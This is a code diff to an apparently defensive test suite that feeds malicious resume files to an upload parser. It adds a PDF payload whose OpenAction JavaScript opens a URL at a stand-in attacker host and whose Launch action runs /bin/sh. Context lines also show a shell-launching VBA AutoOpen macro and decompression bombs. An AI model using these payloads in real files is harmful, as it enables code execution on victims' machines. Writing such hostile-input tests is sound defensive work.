@@ -13,6 +13,8 @@ const WORDS = ['Ines Okafor', 'ines.okafor@post.example', 'Skills', 'Welding, So
 const PDF = simplePdf([WORDS.map((text, at): [number, number, string] => [50, 780 - at * 20, text])]);
 const body = WORDS.map((text) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`).join('');
 const ENCRYPTED = `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'5a'.repeat(32)}>/U<${'5b'.repeat(32)}>>>/ID[<01><01>]`;
+const SCRIPTS =
+  '/OpenAction<</S/JavaScript/JS(app.launchURL("http://attacker.example"))>>/AA<</WC<</S/Launch/F(/bin/sh)>>>>';
 const edit = (pdf: Buffer, from: string | RegExp, to: string) =>
   Buffer.from(pdf.toString('latin1').replace(from, to), 'latin1');
 
@@ -78,6 +80,7 @@ describe('hostile resumes', () => {
     ['a macro in a DOC', 'cv.doc', () => word97(WORDS, { macro: 'Sub AutoOpen(): Shell "sh": End Sub' })],
     ['a macro in a DOCX', 'cv.docx', () => packDocx({ body, parts: { 'word/vbaProject.bin': 'Sub AutoOpen()' } })],
     ['a table of places that is wrong', 'cv.pdf', () => edit(PDF, /startxref\n\d+/, 'startxref\n7')],
+    ['a PDF with a script', 'cv.pdf', () => edit(PDF, '/Type/Catalog', `/Type/Catalog${SCRIPTS}`)],
     ['no table of places', 'cv.pdf', () => edit(PDF, /xref\n0[\s\S]*?trailer/, 'trailer')],
     ['entities that grow and entities that read files', 'cv.docx', entities],
     ['a zip behind a PDF', 'cv.pdf', () => Buffer.concat([PDF, packDocx({ body: '' })])],
@@ -144,13 +147,13 @@ describe('hostile resumes', () => {
     }
   });
 
-  it('RES-02 ten at once keep neither the server nor someone else’s resume waiting', { timeout: 180_000 }, async () => {
+  it('RES-02 five at once keep neither the server nor someone else’s resume waiting', {
+    timeout: 180_000,
+  }, async () => {
     const [attacker, other] = [await talent(), await talent()];
     const bad = [flateBomb(), circle(), nested(), zipBomb(), manyPages()];
     const files: { id: string; url: string }[] = [];
-    for (let at = 0; at < 10; at++) {
-      files.push(await upload(attacker, bad[at % bad.length] as Buffer, at % bad.length === 1 ? 'a.doc' : 'a.pdf'));
-    }
+    for (const [at, bytes] of bad.entries()) files.push(await upload(attacker, bytes, at === 1 ? 'a.doc' : 'a.pdf'));
     const mine = await upload(other, PDF, 'cv.pdf');
     let left = files.length;
     const readings = files.map(async (file) => {
@@ -167,7 +170,7 @@ describe('hostile resumes', () => {
     }
     const { answer, left: leftThen } = await read;
     expect(answer).toMatchObject({ code: 0, data: { content: { first_name: 'Ines' } } });
-    expect(leftThen).toBeGreaterThan(5);
+    expect(leftThen).toBeGreaterThan(2);
     // On a busy machine the last ones wait for their own turn until the call has taken too long.
     for (const code of await Promise.all(readings)) expect([41281, 49007]).toContain(code);
     waits.sort((a, b) => a - b);
